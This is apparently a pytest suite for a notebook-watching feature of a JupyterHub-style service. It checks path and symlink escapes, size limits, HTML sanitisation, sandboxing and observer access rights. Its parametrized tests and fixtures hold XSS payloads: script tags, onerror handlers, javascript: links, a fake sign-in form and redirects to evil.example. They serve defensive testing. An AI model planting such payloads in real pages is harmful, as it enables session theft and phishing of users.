"""Looking at a room without a hand in it: what an observer sees, what a planted script does, what nobody can write."""

import asyncio
import base64
import json
import os
import urllib.error
import urllib.request

import pytest
from playwright.sync_api import expect

from hub_config import home
from hub_config.client import Session
from hub_config.errors import SignInRefused
from hub_config.members.people import open_people
from hub_config.members.teams import Teams
from hub_config.rooms.room_reader import LARGEST, look
from hub_config.rooms.watching import Output, Piece, Watching, _clean_all, clean
from hub_config.texts import text

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SCRIPT = "<script>window.top.planted = 1; fetch('/hub/api/user')</script>"


def words(source):
    return {"cell_type": "markdown", "metadata": {}, "source": source}


def code(source, *outputs, **metadata):
    return {
        "cell_type": "code",
        "metadata": metadata,
        "source": source,
        "outputs": list(outputs),
        "execution_count": 1,
    }


def shows(**data):
    return {"output_type": "display_data", "data": {k.replace("_", "/", 1): v for k, v in data.items()}}


def notebook(*cells):
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


# ------------------------------------------------------------------------------------------------- reading


def test_the_last_changed_notebook_is_shown_and_others_are_listed(tmp_path):
    for number, name in enumerate(["old.ipynb", "folder/new.ipynb", ".hidden.ipynb", "words.txt"]):
        file = tmp_path / name
        file.parent.mkdir(exist_ok=True)
        file.write_text(notebook(words(f"# {name}")))
        os.utime(file, (1000 + number, 1000 + number))
    seen = look(tmp_path, "", "")
    assert [n["path"] for n in seen["notebooks"]] == ["folder/new.ipynb", "old.ipynb"]
    assert seen["path"] == "folder/new.ipynb"
    assert "<h2>folder/new.ipynb</h2>" in seen["pieces"][0]["html"], "the page has a heading of its own"
    assert "pieces" not in look(tmp_path, "", seen["version"])
    assert look(tmp_path, "old.ipynb", seen["version"])["pieces"]


def test_what_a_room_plants_in_its_folder_leads_nowhere(tmp_path):
    (tmp_path / "outside.ipynb").write_text(notebook(words("outside")))
    room = tmp_path / "room"
    room.mkdir()
    (room / "link.ipynb").symlink_to(tmp_path / "outside.ipynb")
    (room / "folder").symlink_to(tmp_path)
    os.mkfifo(room / "pipe.ipynb")
    (room / "folder.ipynb").mkdir()
    assert look(room, "", "") == {"notebooks": [], "path": "", "version": "", "fault": "", "pieces": []}
    for path in ("../outside.ipynb", "link.ipynb", "folder/outside.ipynb", "pipe.ipynb"):
        assert look(room, path, "")["pieces"] == []
    (room / "own.ipynb").write_text(notebook(words("own")))  # the control
    assert look(room, "own.ipynb", "")["pieces"]


@pytest.mark.parametrize(
    "content",
    ["", "{", "[]", '{"cells": 1}', '{"cells": [1]}', "[" * 100_000, notebook(code("x", 7)), "\x00" * 10],
)
def test_what_is_no_notebook_is_said_to_be_none(tmp_path, content):
    (tmp_path / "broken.ipynb").write_text(content)
    seen = look(tmp_path, "", "")
    assert (seen["fault"], seen["pieces"]) == ("no_notebook", [])


def test_a_notebook_of_200_megabytes_is_not_read_and_a_long_one_shown_in_part(tmp_path):
    with (tmp_path / "huge.ipynb").open("wb") as file:
        file.truncate(200_000_000)
    assert look(tmp_path, "huge.ipynb", "")["fault"] == "too_big"
    (tmp_path / "long.ipynb").write_text(notebook(*[words("row") for _ in range(600)]))
    pieces = look(tmp_path, "long.ipynb", "")["pieces"]
    assert len(pieces) == 501 and pieces[-1] == {"kind": "more"}
    stream = {"output_type": "stream", "text": ["x" * 1000] * 100}
    (tmp_path / "loud.ipynb").write_text(notebook(*[code("print()", *[stream] * 40) for _ in range(5)]))
    assert len(json.dumps(look(tmp_path, "loud.ipynb", ""))) < LARGEST / 5


@pytest.mark.parametrize(
    "planted",
    [
        SCRIPT,
        "<img src=x onerror='planted()'>",
        "<svg><script>planted()</script></svg>",
        "<iframe srcdoc='<script>planted()</script>'></iframe>",
        "<style>body { background: url(https://evil.example/x) }</style>",
        "<a href='javascript:planted()'>press</a>",
        "<a href='https://evil.example'>press</a>",
        "<form action='https://evil.example'><input name='password'><button>Sign in</button></form>",
        "<img src='https://evil.example/x.png'>",
        "<img src='data:text/html;base64,PHNjcmlwdD4='>",
        "<meta http-equiv='refresh' content='0; url=https://evil.example'>",
        "<base href='https://evil.example'>",
        "<p style='position:fixed' id='main' class='button' onclick='planted()'>words</p>",
    ],
)
def test_cleaning_leaves_words_and_nothing_that_acts(planted):
    left = clean(planted)
    for sign in (
        "script",
        "onerror",
        "onclick",
        "http",
        "href",
        "style",
        "form",
        "input",
        "frame",
        "data:text",
        "id=",
    ):
        assert sign not in left, left
    assert clean("<table><tr><td colspan='2'>9,800</td></tr></table>").count("9,800") == 1  # the control


def test_a_picture_stays_a_picture():
    picture = f"<img src='data:image/png;base64,{PIXEL}' alt='rides'>"
    assert PIXEL in clean(picture)
    outputs = [
        Output(image="image/png", data=PIXEL),
        Output(image="image/svg+xml", data="<svg xmlns='http://www.w3.org/2000/svg'/>"),
        Output(image="image/png", data="'><script>planted()</script>"),
        Output(image="text/html", data=PIXEL),
    ]
    _clean_all([Piece(kind="code", outputs=outputs)])
    assert [bool(o.image) for o in outputs] == [True, True, False, False]
    assert base64.b64decode(outputs[1].data.split(",")[1]).startswith(b"<svg")


def test_the_reader_is_asked_once_for_all_who_look_and_says_nothing_of_a_file_it_may_not_read(settings):
    home.prepare(settings)
    people = open_people(settings)
    people.add_team("river", "강 모임", "River group")
    room = people.account(people.add_room("river"))
    people.close()
    folder = home.make_home(settings, "room-01", room.uid, is_room=True)
    (folder / "own.ipynb").write_text(notebook(words("own")))
    secret = folder / "secret.ipynb"
    secret.write_text(notebook(words("secret")))
    secret.chmod(0o600)  # root's: what the room's user may not read, its reader may not either
    asked = []

    class Counting(Watching):
        async def _ask(self, *what):
            asked.append(what)
            return await super()._ask(*what)

    async def look_often():
        watching = Counting(settings)
        own = await asyncio.gather(*(watching.look(room, "own.ipynb") for _ in range(5)))
        return own, await watching.look(room, "secret.ipynb")

    if settings.is_root:
        os.chown(folder / "own.ipynb", room.uid, room.uid)
    own, closed = asyncio.run(look_often())
    assert len(asked) == 2 and {id(view) for view in own} == {id(own[0])}
    assert "own" in own[0].pieces[0].html
    if settings.is_root:
        assert closed.pieces == [] and closed.fault == "no_notebook"


# ------------------------------------------------------------------------------------- with a running Hub


@pytest.fixture(scope="module")
def room(hub):
    """The river's room, with a notebook that somebody has made to harm who looks; `outsider-yun` observes."""
    people = open_people(hub.settings)
    account = people.account("room-01")
    teams = Teams(people._engine, hub.settings)
    teams.put("river", "outsider-yun", "observer", by="test")
    folder = home.make_home(hub.settings, "room-01", account.uid, is_room=True)
    file = folder / "우리 동네.ipynb"

    def write(*more):
        cells = [
            words(
                f"# 자전거 길\n\n{SCRIPT}<img src='/hub/logout' onerror='planted=1'>\n\n"
                "| 구 | 대여 |\n|--|--|\n| 마포 | 9,800 |"
            ),
            code(
                "rides.plot()",
                shows(text_html=f"<b>표</b>{SCRIPT}"),
                shows(image_png=PIXEL),
                shows(text_html="<iframe srcdoc='<script>planted=1</script>'></iframe>"),
                {"output_type": "stream", "name": "stdout", "text": "\x1b[31m1,234\x1b[0m"},
                civic={"ran_by": "전문가 한별", "ran_at": "19:54"},
            ),
            *more,
        ]
        new = folder / ".new"
        new.write_text(notebook(*cells))
        if hub.settings.is_root:
            os.chown(new, account.uid, account.uid)
        new.rename(file)

    write()
    yield write
    file.unlink()
    teams.remove("river", "outsider-yun", by="test")
    people.close()


@pytest.mark.hub
@pytest.mark.browser
def test_an_observer_sees_the_notebook_follow_and_no_planted_script_runs(hub, room, signed_in, look):
    page = signed_in("outsider-yun")
    requests = []
    page.on("request", lambda request: requests.append(request.url))
    page.get_by_role("link", name=text("ko", "home.watch", team="강 모임")).click()
    frame = page.frame_locator("iframe.watched").last  # two while it is shown anew
    expect(frame.get_by_role("heading", name="자전거 길")).to_be_visible()
    expect(frame.locator("body")).to_contain_text("1,234")
    expect(frame.locator("body")).to_contain_text(text("ko", "watch.ran", person="전문가 한별", at="19:54"))
    expect(frame.locator("body")).to_contain_text(text("ko", "watch.moving"))
    look(page, "watch")
    expect(page.get_by_role("link", name=text("ko", "watch.enter"))).to_have_count(0)
    room(words("## 새로 쓴 칸"))
    expect(frame.get_by_role("heading", name="새로 쓴 칸")).to_be_visible(timeout=15_000)
    expect(page.get_by_role("status")).to_contain_text(text("ko", "watch.changed"))
    assert page.evaluate("typeof planted") == "undefined"
    assert all(url.startswith((f"{hub.url}/hub/watch/", "data:")) for url in requests), requests
    answer = page.context.request.get(hub.url + page.locator("iframe.watched").last.get_attribute("src"))
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none'") and "script-src" not in policy
    page.goto("about:blank")  # in the frame nothing runs, axe neither
    page.set_content(answer.text())
    look(page, "watched")


@pytest.mark.hub
def test_an_observer_reaches_neither_the_rooms_server_nor_a_way_to_write(hub, room):
    observer = Session(hub.url, hub.secrets["outsider-yun"])
    page = observer._open(urllib.request.Request(f"{hub.url}/hub/watch/room-01"))
    assert "자전거 길".encode() not in page and "우리 동네".encode() in page
    with pytest.raises(SignInRefused):
        observer.api("POST", "users/room-01/server", {})
    with pytest.raises(SignInRefused):
        observer.token(["access:servers!user=room-01"], lifetime_s=60, note="test")
    for method in ("POST", "PUT", "PATCH", "DELETE"):
        for place in ("", "/page", "/version"):
            request = urllib.request.Request(
                f"{hub.url}/hub/watch/room-01{place}", b"x", {"X-XSRFToken": observer._xsrf()}, method=method
            )
            with pytest.raises(SignInRefused) as refused:
                observer._open(request)
            assert refused.value.facts["status"] == 405


@pytest.mark.hub
def test_who_is_in_no_part_of_a_team_finds_no_room_and_cannot_tell_one_from_none(hub, room):
    stranger = Session(hub.url, hub.secrets["city-steward"])
    for name in ("room-01", "room-39", "nowhere"):
        with pytest.raises(SignInRefused) as refused:
            stranger._open(urllib.request.Request(f"{hub.url}/hub/watch/{name}"))
        assert refused.value.facts["status"] == 404
    member = Session(hub.url, hub.secrets["expert-han"])
    assert text("ko", "watch.enter").encode() in member._open(
        urllib.request.Request(f"{hub.url}/hub/watch/room-01")
    )
